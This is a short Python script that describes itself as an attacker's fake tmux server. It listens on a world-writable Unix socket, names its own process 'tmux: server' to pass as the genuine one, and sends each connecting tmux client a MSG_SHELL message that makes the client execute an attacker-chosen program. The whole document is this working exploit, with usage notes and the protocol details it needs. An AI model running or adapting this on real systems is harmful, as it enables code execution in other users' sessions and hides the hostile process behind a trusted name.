"""An attacker's fake tmux server: every client that connects is told to exec PROGRAM (MSG_SHELL).

Usage: fake_tmux_server.py SOCKET PROGRAM. Protocol facts from tmux 3.3a's tmux-protocol.h, proc.c
and client.c: a message is a 16-byte imsg header (type u32, len u16 incl. header, flags u16, peerid
u32 whose low byte is PROTOCOL_VERSION 8, pid u32) and its data; a client still waiting for
MSG_READY execl()s the NUL-terminated path in a MSG_SHELL (209) message."""
import ctypes
import os
import socket
import struct
import sys

ctypes.CDLL(None).prctl(15, b"tmux: server", 0, 0, 0)  # PR_SET_NAME: looks like a tmux server
path, program = sys.argv[1], sys.argv[2].encode() + b"\0"
server = socket.socket(socket.AF_UNIX)
server.bind(path)
os.chmod(path, 0o777)  # anyone may connect
server.listen(16)
print("listening", flush=True)
while True:
    client, _ = server.accept()
    client.sendall(struct.pack("<IHHII", 209, 16 + len(program), 0, 8, os.getpid()) + program)
    client.close()
